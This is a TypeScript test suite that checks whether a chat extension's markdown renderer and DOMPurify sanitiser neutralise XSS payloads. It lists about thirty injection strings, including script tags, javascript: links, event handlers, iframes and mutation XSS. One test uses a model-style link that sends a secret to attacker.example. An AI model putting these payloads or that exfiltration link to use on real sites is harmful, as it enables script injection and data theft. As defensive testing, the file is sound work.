/**
 * The chat's markdown → HTML path attacked with XSS payloads. DOMPurify runs on a jsdom window with exactly the
 * configuration the webview uses (src/core/chat/markdown.ts); the output is parsed again and inspected.
 */
import * as assert from "node:assert/strict";
import createDOMPurify from "dompurify";
import { JSDOM } from "jsdom";
import { createMarkdownRenderer, sanitizeHtml } from "../../src/core/chat/markdown";

const PAYLOADS: [string, string][] = [
    ["script tag", "<script>alert(1)</script>"],
    ["script in markdown paragraph", "Hello <script src=https://evil.example/x.js></script> world"],
    ["javascript: link", "[click me](javascript:alert(1))"],
    ["javascript: link with entity", "[click](jav&#x61;script:alert(1))"],
    ["javascript: link mixed case and spaces", "[x]( JaVaScRiPt:alert(1) )"],
    ["vbscript link", "[x](vbscript:msgbox(1))"],
    ["data: link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
    ["autolink javascript", "<javascript:alert(1)>"],
    ["onerror attribute", "<img src=x onerror=alert(1)>"],
    ["onclick in html", "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>"],
    ["iframe", "<iframe src=\"https://evil.example\"></iframe>"],
    ["iframe srcdoc", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"],
    ["svg with script", "<svg><script>alert(1)</script></svg>"],
    ["svg onload", "<svg onload=alert(1)><circle r=10 /></svg>"],
    ["data: image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)"],
    ["remote image", "![tracker](https://evil.example/pixel.png)"],
    ["remote image reference", "![t][r]\n\n[r]: https://evil.example/p.png"],
    ["object/embed", "<object data=\"x.swf\"></object><embed src=\"x.swf\">"],
    ["style tag", "<style>body{background:url(https://evil.example)}</style>"],
    ["form action", "<form action=\"javascript:alert(1)\"><button>go</button></form>"],
    ["meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"],
    ["math/xlink", "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>"],
    ["details ontoggle", "<details open ontoggle=alert(1)>"],
    ["html in link title", "[x](https://ok.example \"\\\" onmouseover=alert(1) x=\\\"\")"],
    ["fenced code with html", "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```"],
    ["inline code html", "`<img src=x onerror=alert(1)>`"],
    ["mutation xss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"],
    ["base tag", "<base href=\"https://evil.example/\">"],
];

describe("chat markdown sanitising", () => {
    const window = new JSDOM("").window;
    const purify = createDOMPurify(window as unknown as Parameters<typeof createDOMPurify>[0]);
    const renderer = createMarkdownRenderer(purify);

    function inspect(html: string): string[] {
        const doc = new JSDOM(`<body>${html}</body>`).window.document;
        const problems: string[] = [];
        for (const node of Array.from(doc.body.querySelectorAll("*"))) {
            const tag = node.tagName.toLowerCase();
            if (["script", "iframe", "img", "svg", "math", "object", "embed", "style", "form", "meta", "base", "link", "noscript"].includes(tag)) {
                problems.push(`<${tag}> survived`);
            }
            for (const attr of Array.from(node.attributes)) {
                const name = attr.name.toLowerCase();
                if (name.startsWith("on")) problems.push(`${name} attribute on <${tag}>`);
                if (["src", "srcdoc", "style", "action", "formaction", "xlink:href", "data"].includes(name)) problems.push(`${name} attribute on <${tag}>`);
                // No link is followable without the host's confirmation: no href at all (src/chat/chatLinks.ts).
                if (name === "href") problems.push(`href="${attr.value}" on <${tag}>`);
                if (name === "data-href" && !/^(https?:|mailto:)/i.test(attr.value)) problems.push(`data-href="${attr.value}" on <${tag}>`);
            }
        }
        return problems;
    }

    for (const [name, payload] of PAYLOADS) {
        it(`neutralises: ${name}`, () => {
            const html = renderer.render(payload);
            assert.deepEqual(inspect(html), [], `${payload}\n→ ${html}`);
            // The sanitiser alone holds too, as if the payload had reached it as raw HTML.
            const raw = sanitizeHtml(purify, payload);
            assert.deepEqual(inspect(raw), [], `raw ${payload}\n→ ${raw}`);
        });
    }

    it("keeps ordinary markdown: emphasis, lists, safe links, highlighted code", () => {
        const html = renderer.render("**bold** and [docs](https://example.com)\n\n- one\n- two\n\n```ts\nconst x: number = 1;\n```");
        const doc = new JSDOM(`<body>${html}</body>`).window.document;
        assert.equal(doc.querySelector("strong")?.textContent, "bold");
        assert.equal(doc.querySelector("a")?.getAttribute("data-href"), "https://example.com");
        assert.equal(doc.querySelector("a")?.getAttribute("rel"), "noopener noreferrer");
        assert.equal(doc.querySelectorAll("li").length, 2);
        const code = doc.querySelector("pre code");
        assert.equal(code?.textContent, "const x: number = 1;\n");
        assert.match(code?.className ?? "", /language-ts/);
        assert.ok(code?.querySelector("span.hljs-keyword"), "code is highlighted");
    });

    it("renders links without href: the address is kept for the host to confirm, and shown in full as the title", () => {
        const exfiltration = "https://attacker.example/collect?q=const%20secret%20%3D%20%22hunter2%22";
        for (const html of [
            renderer.render(`See [the docs](${exfiltration} "https://docs.example.com")`),
            sanitizeHtml(purify, `<a href="${exfiltration}" title="https://docs.example.com">the docs</a>`),
        ]) {
            const a = new JSDOM(`<body>${html}</body>`).window.document.querySelector("a");
            assert.ok(a, html);
            assert.equal(a.hasAttribute("href"), false, `a followable link survived: ${html}`);
            assert.equal(a.getAttribute("data-href"), exfiltration);
            assert.equal(a.getAttribute("title"), exfiltration, "the model's title must not hide the real address");
            assert.equal(a.getAttribute("role"), "link");
        }
        const unsafe = new JSDOM(`<body>${sanitizeHtml(purify, '<a href="javascript:alert(1)" title="x">x</a>')}</body>`).window.document.querySelector("a");
        assert.equal(unsafe?.hasAttribute("data-href"), false);
        assert.equal(unsafe?.hasAttribute("href"), false);
    });

    it("shows raw HTML from the model as text, and images as their alt text", () => {
        const doc = new JSDOM(`<body>${renderer.render("<b>hi</b> ![a cat](https://evil.example/cat.png)")}</body>`).window.document;
        assert.equal(doc.querySelector("b"), null);
        assert.match(doc.body.textContent ?? "", /<b>hi<\/b> a cat/);
    });
});
